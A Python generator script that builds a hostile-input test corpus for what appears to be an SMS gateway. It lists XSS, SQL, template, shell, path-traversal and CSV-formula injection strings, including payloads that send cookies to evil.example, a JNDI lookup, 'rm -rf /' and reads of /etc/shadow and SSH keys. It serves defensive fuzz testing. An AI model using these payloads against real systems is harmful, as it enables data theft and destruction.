#!/usr/bin/env python3
"""Generates corpus.json, the hostile-input corpus (run: python3 gen.py > corpus.json).

Each entry has an id, a class and exactly one of:
  text  - a string (JSON escapes keep control characters faithful),
  hex   - raw bytes that are not valid UTF-8 (overlong forms, lone bytes, CESU surrogates),
  ucs2  - UTF-16 code units in hex for an inbound UCS-2 PDU (lone surrogates live here).
"""
import json, urllib.parse, base64, html

out = []
def add(cls, text=None, hexs=None, ucs2=None):
    e = {"id": f"{cls}-{sum(1 for x in out if x['class']==cls)+1:03d}", "class": cls}
    if text is not None: e["text"] = text
    if hexs is not None: e["hex"] = hexs
    if ucs2 is not None: e["ucs2"] = ucs2
    out.append(e)

xss = [
 "<script>alert(1)</script>", "<ScRiPt>alert(1)</ScRiPt>", "<script src=//evil.example/x.js></script>",
 "<img src=x onerror=alert(1)>", "<img src=x onerror=\"window.__xss=1\">", "<svg onload=alert(1)>",
 "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<iframe src=\"javascript:alert(1)\"></iframe>",
 "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>", "<a href=\"javascript:alert(1)\">click</a>",
 "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
 "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
 "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
 "<marquee onstart=alert(1)>", "<object data=\"javascript:alert(1)\">", "<embed src=\"javascript:alert(1)\">",
 "<form action=\"javascript:alert(1)\"><button>x</button></form>", "<isindex action=javascript:alert(1) type=image>",
 "<link rel=import href=data:text/html,<script>alert(1)</script>>", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
 "<style>@import 'javascript:alert(1)';</style>", "<div style=\"background:url(javascript:alert(1))\">",
 "<div style=\"width:expression(alert(1))\">", "<base href=\"javascript:alert(1)//\">", "\"><script>alert(1)</script>",
 "'><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
 "</script><script>alert(1)</script>", "<!--<script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
 "<scr<script>ipt>alert(1)</scr</script>ipt>", "<svg/onload=alert`1`>", "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
 "<img src=x:x onerror=\"fetch('//evil.example/'+document.cookie)\">", "javascript:alert(document.domain)",
 "data:text/html;base64," + base64.b64encode(b"<script>alert(1)</script>").decode(),
 "<a href=\"data:text/html,<script>alert(1)</script>\">d</a>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
 "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">", "<x onclick=alert(1)>click me</x>",
 "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
 "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
 "{{constructor.constructor('alert(1)')()}}", "<div ng-app>{{$eval.constructor('alert(1)')()}}</div>",
 "<script>document.body.innerHTML='pwned'</script>", "<img src=x onerror=this.src='//evil.example/?c='+document.cookie>",
 "<script type=module>alert(1)</script>", "<script>setTimeout('alert(1)')</script>", "<frameset onload=alert(1)>",
 "<table background=\"javascript:alert(1)\">", "<img dynsrc=\"javascript:alert(1)\">", "<bgsound src=\"javascript:alert(1)\">",
 "<sVg OnLoAd=alert(1)>", "<img src=`x` onerror=alert(1)>", "<img/src/onerror=alert(1)>",
]
for x in xss: add("xss", x)
# The same payloads in other encodings: entities, URL, double URL, JS and CSS escapes, UTF-7, fullwidth.
base = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>"]
for b in base:
    add("xss-encoded", html.escape(b))
    add("xss-encoded", "".join(f"&#{ord(c)};" for c in b))
    add("xss-encoded", "".join(f"&#x{ord(c):x};" for c in b))
    add("xss-encoded", urllib.parse.quote(b))
    add("xss-encoded", urllib.parse.quote(urllib.parse.quote(b)))
    add("xss-encoded", "".join(f"\\u{ord(c):04x}" for c in b))
    add("xss-encoded", "".join(f"\\x{ord(c):02x}" for c in b))
    add("xss-encoded", b.encode("utf-7").decode("ascii"))
    add("xss-encoded", "".join(chr(ord(c) + 0xFEE0) if 0x21 <= ord(c) <= 0x7e else c for c in b))
    add("xss-encoded", base64.b64encode(b.encode()).decode())
    add("xss-encoded", b.replace("<", "\u2039").replace(">", "\u203a"))
    add("xss-encoded", b.replace("<", "\uff1c").replace(">", "\uff1e"))
    add("xss-encoded", b.replace("<", "\\3c ").replace(">", "\\3e "))
add("xss-encoded", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-")
add("xss-encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E")
add("xss-encoded", "&lt;script&gt;alert(1)&lt;/script&gt;")
add("xss-encoded", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e")
# Overlong and invalid UTF-8 forms of '<' and friends (raw bytes).
for h in ["c0bc7363726970743e616c6572742831293c2f7363726970743e", "e080bc736372697074", "f08080bc736372697074",
          "3cc0af7363726970743e", "ff", "fe", "c0", "c1bf", "e0808f", "f4908080", "f8888080808080", "fc8480808080",
          "80", "bf", "c2", "e282", "f09f98", "eda080", "edbfbf", "eda0bdedb881", "3c736372697074ff3e", "61ff62fe63",
          "efbbbf3c7363726970743e", "00", "3c00730063007200690070007400"]:
    add("invalid-utf8", hexs=h)
sql = [
 "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "'; DROP TABLE messages; --", "'; DROP TABLE contacts;--",
 "Robert'); DROP TABLE contacts;--", "1; DELETE FROM users", "' UNION SELECT password_hash, 1 FROM users --",
 "' UNION SELECT sqlite_version() --", "' AND 1=(SELECT COUNT(*) FROM sqlite_master) --", "admin'--", "admin' #",
 "') OR ('a'='a", "'||(SELECT load_extension('x'))||'", "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
 "'; PRAGMA writable_schema=1; --", "1' ORDER BY 99 --", "%' AND 1=0 UNION SELECT 1,2,3 --", "\\'; SELECT 1; --",
 "' /*", "*/ OR 1=1 /*", "'--", "\"", "'", "`", ";", "' OR ''='", "1e1000", "' AND SLEEP(5) --",
 "'; WAITFOR DELAY '0:0:5' --", "' OR x'41'='A", "char(39)||char(59)", "\u02bc OR 1=1 --", "\uff07 OR 1=1 --",
 "' OR 1=1 LIMIT 1 OFFSET 1 --", "1 OR 1=1", "-1 UNION SELECT * FROM tokens", "%", "_", "%%", "\\%", "[%]",
 "' ESCAPE '\\' --", "name LIKE '%'", "' GLOB '*", "NULL", "null", "undefined", "0x27",
]
for s in sql: add("sql", s)
tmpl = [
 "{{.}}", "{{printf \"%s\" .}}", "{{template \"layout\" .}}", "{{define \"x\"}}y{{end}}", "{{range .}}{{end}}",
 "{{contact.name}}", "{{agent.name}}", "{{field.eta}}", "{{ job.ref | x }}", "{{{{contact.name}}}}", "}}{{", "{{",
 "}}", "${7*7}", "${jndi:ldap://evil.example/a}", "#{7*7}", "<%= 7*7 %>", "{% raw %}{{7*7}}{% endraw %}",
 "{{7*7}}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "<?php system('id'); ?>",
 "<?= `id` ?>", "{$smarty.version}", "{php}echo 1;{/php}", "*{7*7}", "@(1+2)", "[[${7*7}]]", "{{call .Exec \"id\"}}",
 "{{js .}}", "{{html .}}", "{{.Name|html}}", "%s%s%s%s%n", "%x%x%x", "%(password)s", "{0}{1}", "{password}",
]
for s in tmpl: add("template", s)
shell = [
 "; id", "| id", "& id", "&& id", "|| id", "`id`", "$(id)", "$(touch /tmp/smsgw-pwned)", "; rm -rf / #",
 "test'; touch /tmp/pwned; echo '", "\"; touch /tmp/pwned; echo \"", "> /etc/passwd", "< /etc/shadow",
 "2>&1", "$IFS$9id", "${IFS}id", "a\nid", "a\r\nid", "$((1+1))", "!!", "~root", "*", "?", "[a-z]*",
 "\\", "'\\''", "$HOME", "%PATH%", "^", "a;b|c&d`e`$(f)>g<h", "--help", "-rf", "-o ProxyCommand=id",
]
for s in shell: add("shell", s)
path = [
 "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
 "..%252f..%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd", "/etc/passwd", "file:///etc/passwd", "/dev/ttyUSB0",
 "/proc/self/environ", "C:\\Windows\\System32", "\\\\evil.example\\share", "smsgw.db", "../smsgw.db",
 "x.php", "x.php%00.jpg", "x.php\u0000.jpg", ".htaccess", "CON", "NUL", "aux.txt", "~/.ssh/id_rsa",
]
for s in path: add("path", s)
ctrl = ["\u0000", "a\u0000b", "\u0007bell", "\u0008\u0008\u0008", "\t\t", "\n", "\r", "\r\n\r\n", "\u000b\u000c",
        "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\u001bc", "\u007f", "\u0085", "\u009b31m", "\u2028", "\u2029",
        "\u200b", "\u200d", "\u2060", "\ufeff", "\ufffe", "\uffff", "\ufffd", "\u202eevil\u202c", "\u202dx\u202c",
        "\u2066rtl\u2069", "abc\u0301\u0301\u0301\u0301", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334",
        "\u1680", "\u3000", "\u00a0", "\u061c", "\u200e\u200f", "Content-Type: text/html\r\n\r\n<script>alert(1)</script>",
        "X-Injected: 1\r\nSet-Cookie: a=b", "a\u0000<script>alert(1)</script>", "\u0000\u0001\u0002\u0003\u0004\u0005\u0006"]
for s in ctrl: add("control", s)
nums = ["1e309", "-1e309", "99999999999999999999999999999999", "-99999999999999999999", "9223372036854775807",
        "9223372036854775808", "-9223372036854775809", "18446744073709551616", "0x7fffffffffffffff", "NaN", "Infinity",
        "-Infinity", "-0", "0.0000000000000000000001", "1.7976931348623157e308", "4.9e-324", "2147483648", "-2147483649",
        "+4915112345678901234567890", "+" + "9" * 40, "00000000000000000000", "١٢٣٤٥", "１２３", "+49 (0) 151-1234 5678 ext. 99"]
for s in nums: add("number", s)
csv = ["=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
       "\t=1+1", "\r=1+1", "=1+1", "\"=1+1\""]
for s in csv: add("csv", s)
uni = ["😁", "👩‍👩‍👧‍👦", "🏳️‍🌈", "ﷺ", "𒐫", "𝕳𝖊𝖑𝖑𝖔", "Ω≈ç√∫", "العربية", "עברית", "中文测试", "한국어", "ᚠᛇᚻ", "Ⅻ", "ß", "İı",
       "ǅ", "ﬃ", "€[]{}^~\\|", "@£$¥èéùìòÇØøÅå", "\u00e9 vs e\u0301"]
for s in uni: add("unicode", s)
long_ = ["A" * 161, "€" * 81, "ж" * 71, "<script>" * 100, "x" * 1530, "😁" * 200, "'" * 1000, "{{" * 500, "\u0000" * 64,
         "a" * 10000]
for s in long_: add("long", s)
# Lone and reversed surrogates inside UCS-2 PDUs (code units, big-endian hex).
for u in ["d800", "dc00", "0041d800", "d8000041", "dc00d800", "d83dd83d", "de01", "0041dbff0042", "d83dde01d83d",
          "003c0073d800003e", "fffe", "feff0041", "0000", "d800dc00d800"]:
    add("ucs2-surrogate", ucs2=u)
json.dump(out, __import__("sys").stdout, ensure_ascii=True, indent=0)
print()
